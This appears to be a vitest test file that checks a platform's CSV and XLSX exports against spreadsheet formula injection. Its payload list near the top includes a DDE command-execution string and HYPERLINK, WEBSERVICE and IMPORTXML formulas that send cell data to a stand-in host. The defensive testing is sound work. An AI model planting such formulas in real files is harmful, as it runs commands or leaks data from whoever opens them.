import { globSync, readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import { writeCsv as writeQuestionTable } from '../exchange/domain/export/table/write-csv.ts';
import { readCsv as readQuestionTable } from '../exchange/server/read/read-csv.ts';
import { contracts } from '../features.ts';
import type { Endpoint } from '../platform/contract.ts';
import { csvRows } from '../platform/server/table-file/csv-rows.ts';
import { openArchive } from '../platform/server/table-file/open-archive.ts';
import { readTableFile } from '../platform/server/table-file/read-table-file.ts';
import { csvOf } from '../platform/ui/list/csv.ts';
import { xlsxOf } from '../platform/xlsx.ts';
import { readCsv as readSetTable, writeCsv as writeSetTable } from '../syllabus/domain/csv.ts';

/** What a spreadsheet would run, and what looks like it: forty texts that somebody may write anywhere. */
const payloads = [
  ...['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r', '\n'].flatMap((sign) => [
    `${sign}1+1`,
    `${sign}SUM(A1:A9)`,
  ]),
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("https://example.test?"&A1,"Open")',
  '=IMPORTXML("https://example.test","//a")',
  '=WEBSERVICE("https://example.test")',
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  '-2+3+cmd|x',
  "'=1+1",
  "''=1+1",
  ' =1+1',
  '  \t=1+1',
  '"=1+1"',
  '",=1+1,"',
  'a,=1+1',
  'a;=1+1',
  'a\t=1+1',
  'a\n=1+1',
  'a\r\n=1+1',
  '=',
] as const;

type Table = readonly (readonly string[])[];
type Written = { readonly back: Table; readonly formulas: number };

/** A table of texts, how one of our writers writes it, and how the import that reads it reads it back. */
const writers: Readonly<Record<string, (table: Table) => Promise<Written>>> = {
  'every list and table on a page, CSV': async (table) => {
    const read = await readTableFile(new TextEncoder().encode(csvOf(table)), () => true);
    return written(
      csvOf(table),
      read.rows.map(({ cells }) => cells),
    );
  },
  'questions, CSV': async (table) => {
    const { rows } = readQuestionTable(writeQuestionTable(table).slice(1).replaceAll('\r\n', '\n'), ',');
    return written(
      writeQuestionTable(table),
      rows.map(({ cells }) => cells),
    );
  },
  'editions of module sets, CSV': async (table) =>
    written(
      writeSetTable(table),
      readSetTable(writeSetTable(table)).rows.map(({ cells }) => cells),
    ),
  'everything, XLSX': async (table) => {
    const bytes = await xlsxOf(table);
    const { rows } = await readTableFile(bytes, () => true);
    return { back: rows.map(({ cells }) => cells), formulas: await formulasIn(bytes) };
  },
};

const written = (csv: string, back: Table): Written => {
  const cells = csvRows(csv.slice(1).replaceAll('\r\n', '\n'), ',').rows.map((row) => row.cells);
  return { back, formulas: cells.flat().filter(isRun).length };
};

/** How many cells of a workbook have a formula, by the file itself. */
async function formulasIn(bytes: Uint8Array): Promise<number> {
  const archive = await openArchive(bytes);
  const sheet = new TextDecoder().decode(archive.bytesOf('xl/worksheets/sheet1.xml') ?? undefined);
  return sheet.match(/<f[\s>/]|t="str"/g)?.length ?? 0;
}

/** By the rule of the design, written apart from the product's: what the cell begins with once blanks are passed over. */
function isRun(cell: string): boolean {
  const [first = ''] = cell;
  return '\t\r\n'.includes(first) ? cell !== '' : '=+-@＝＋－＠'.includes(cell.trim()[0] ?? ' ');
}

/** Readers of tables know one line end. */
const oneLineEnd = (text: string) => text.replaceAll(/\r\n?/g, '\n');
const heads = ['head', 'words', 'more'];
const tableOf = (payload: string): Table => [heads, ['a', payload, 'b'], [payload, 'a', 'a']];

test('there are forty texts', () => expect(new Set(payloads).size).toBe(40));

test.each(Object.entries(writers))('no cell is a formula, and every text comes back: %s', async (name, write) => {
  for (const payload of payloads) {
    const { formulas, back } = await write(tableOf(payload));
    // Who reads a workbook passes over blanks at the ends of cells.
    const read = (cell: string) => (name.endsWith('XLSX') ? oneLineEnd(cell).trim() : oneLineEnd(cell));
    const same = (table: Table) => table.map((row) => row.map(read));
    expect([payload, formulas, same(back)]).toEqual([payload, 0, same(tableOf(payload))]);
  }
  console.info(`GOAL S7 ${name}: ${payloads.length} texts in two places each, 0 formulas, all come back`);
});

/** Writers with a fault that this test has to find. */
const mutants: Readonly<Record<string, (table: Table) => string>> = {
  'nothing disarmed': (table) => plain(table, (cell) => cell),
  'wide signs forgotten': (table) => plain(table, (cell) => (/^[=+\-@\t\r\n]/.test(cell.trim()) ? `'${cell}` : cell)),
  'line ends forgotten': (table) => plain(table, (cell) => (/^[=+\-@＝＋－＠]/.test(cell.trim()) ? `'${cell}` : cell)),
  'blanks forgotten': (table) => plain(table, (cell) => (/^[=+\-@\t\r\n＝＋－＠]/.test(cell) ? `'${cell}` : cell)),
};
const plain = (table: Table, change: (cell: string) => string) =>
  `\uFEFF${table.map((row) => row.map((cell) => `"${change(cell).replaceAll('"', '""')}"`).join(',')).join('\r\n')}\r\n`;

test.each(Object.entries(mutants))('a writer with a fault is found: %s', (_, write) => {
  expect(payloads.reduce((sum, payload) => sum + written(write(tableOf(payload)), []).formulas, 0)).toBeGreaterThan(0);
});

test('a workbook with a formula is found', async () => {
  const { default: writeXlsxFile } = await import('write-excel-file/universal');
  const blob = await writeXlsxFile([[{ type: 'Formula', value: '=1+1' }]]).toBlob();
  expect(await formulasIn(new Uint8Array(await blob.arrayBuffer()))).toBe(1);
});

/** What every download of the contract gives. One that is missing here fails until somebody says whether it is a table. */
const downloads: Readonly<Record<'table' | 'document' | 'picture' | 'archive' | 'other', readonly string[]>> = {
  table: ['exportEdition', 'readExportedFile', 'readQuestionTemplate'],
  document: [],
  picture: ['readPhoto', 'readPicture', 'readOwnPhoto', 'readPlacePhoto', 'readScannedPicture', 'readTutorialPicture'],
  archive: ['downloadDossier', 'downloadBackup', 'exportPersonalData'],
  other: [
    'readWaitingSound',
    'readReference',
    'readSittingReference',
    'downloadBrowserFile',
    'downloadMyBrowserFile',
    'readMyCredential',
    'readVerifier',
    'previewCertificate',
    'readPrintedQuestions',
    'readPersonalPapers',
    'readChosenPrint',
  ],
};

test('every download of the contract is a print, or stands here with what it gives', () => {
  const all: readonly (readonly [string, Endpoint])[] = Object.values(contracts).flatMap((one) => Object.entries(one));
  const known = Object.values(downloads).flat();
  const given = all.filter(([, { kind }]) => kind === 'download').map(([name]) => name);
  expect(given.filter((name) => !known.includes(name) && !name.startsWith('print'))).toEqual([]);
  expect(known.filter((name) => !given.includes(name))).toEqual([]);
});

/** The files that make CSV or a workbook out of cells. Everything else calls them, and so is what they are. */
const makers = {
  csv: ['src/platform/ui/list/csv.ts', 'src/exchange/domain/export/table/write-csv.ts', 'src/syllabus/domain/csv.ts'],
  workbook: ['src/platform/xlsx.ts'],
} as const;
const callsAMaker = /\b(?:csvOf|writeCsv|writeSetTable|xlsxOf)\(/;

test('no file of the product makes a table by another way', () => {
  const sources = globSync('src/**/*.{ts,tsx}').filter((file) => !/\.(?:test|fixture)\.tsx?$/.test(file));
  const having = (what: RegExp) => sources.filter((file) => what.test(readFileSync(file, 'utf8')));
  expect(having(/from 'write-excel-file|import\('write-excel-file/)).toEqual(makers.workbook);
  expect(having(/\bcsvCell\b/).toSorted()).toEqual([...makers.csv, 'src/platform/text/spreadsheet-cell.ts'].toSorted());
  // Code that saves a table calls one of them, or hands on the bytes of an endpoint that does.
  const saves = having(/saveFile\([^;]*(?:csv|xlsx)/s);
  const handsOn = ['src/syllabus/client/sets/content-tab.tsx'];
  expect(saves.length).toBeGreaterThan(4);
  expect(saves.filter((file) => !callsAMaker.test(readFileSync(file, 'utf8')) && !handsOn.includes(file))).toEqual([]);
});
